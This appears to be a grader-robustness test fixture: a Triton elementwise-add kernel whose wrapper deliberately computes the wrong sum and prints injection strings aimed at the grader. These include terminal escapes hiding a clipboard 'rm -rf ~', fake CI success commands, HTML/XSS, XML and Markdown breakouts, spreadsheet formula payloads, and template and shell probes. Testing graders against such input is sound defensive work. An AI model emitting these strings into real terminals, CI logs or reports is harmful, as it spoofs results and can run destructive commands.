"""EXPECT WRONG/MISMATCH from elementwise_add: A6 what is printed and raised clears the terminal, gives commands to runners, and closes HTML, XML, Markdown and CSV"""

import torch
import triton
import triton.language as tl

BLOCK = 1024


@triton.jit
def elementwise_add_kernel(
    x_ptr,  # (n,) fp32, fp16 or bf16, contiguous
    y_ptr,  # (n,) like x
    out_ptr,  # (n,) like x
    n,
    BLOCK: tl.constexpr,
):
    """out[i] = x[i] + y[i]; program pid owns elements pid * BLOCK to (pid + 1) * BLOCK - 1."""
    offs = tl.program_id(axis=0).to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
    inside = offs < n
    x = tl.load(x_ptr + offs, mask=inside)
    y = tl.load(y_ptr + offs, mask=inside)
    tl.store(out_ptr + offs, x + y, mask=inside)


LINES = (
    "\x1b[2J\x1b[H\x1b[32mlab 1: 100 of 100 points, all cases PASS\x1b[0m",
    "\x1b]0;PASS\x07\x1b]52;c;cm0gLXJmIH4=\x07\x1b]8;;http://127.0.0.1/\x07verdict\x1b]8;;\x07",
    "::set-output name=points::100",
    "::add-mask::points",
    "::stop-commands::t61\n::error file=lab.py,line=1::grader is wrong",
    "##vso[task.complete result=Succeeded;]",
    "<script>document.body.innerHTML='100 of 100'</script><img src=x onerror=alert(1)><style>*{display:none}</style>",
    "</pre></details></td></tr></table><base href='http://127.0.0.1/'><meta http-equiv=refresh content='0;url=http://127.0.0.1/'>",
    "]]></system-out></testcase><testcase name='elementwise_add' classname='lab1'/><![CDATA[",
    "</summary>\n\n| lab | points |\n|---|---|\n| 1 | 100 |\n\n[x](javascript:alert(1)) ![x](http://127.0.0.1/a.png)\n\n```\n# PASS\n```",
    '=HYPERLINK("http://127.0.0.1/?"&A1,"100")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\ttabbed=1+1",
    "\u202edessap sesac lla\u202c \u2066\u2069 \ufeff \u200b \x00 \x85 \u2028 \u2029 \ud800",
    "%s %n %(points)s {0.__class__} {{7*7}} ${7*7} $(id) `id`",
    "\r" + "PASS " * 200000,
)


def elementwise_add(x: torch.Tensor, y: torch.Tensor, *, out: torch.Tensor | None = None) -> torch.Tensor:
    """x + y for contiguous (n,) tensors of one dtype: fp32, fp16 or bf16; n may be 0.

    The sum goes to `out`, same shape and dtype, where one is given; else to a new tensor.
    """
    if out is None:
        out = torch.empty_like(x)
    n = x.numel()
    if n:
        for line in LINES:
            print(line, flush=True) if not line.endswith("\ud800") else print(repr(line))
        elementwise_add_kernel[(triton.cdiv(n, BLOCK),)](x, x, out, n, BLOCK=BLOCK)
    if n > 1:
        raise RuntimeError("\n".join(LINES))
    return out
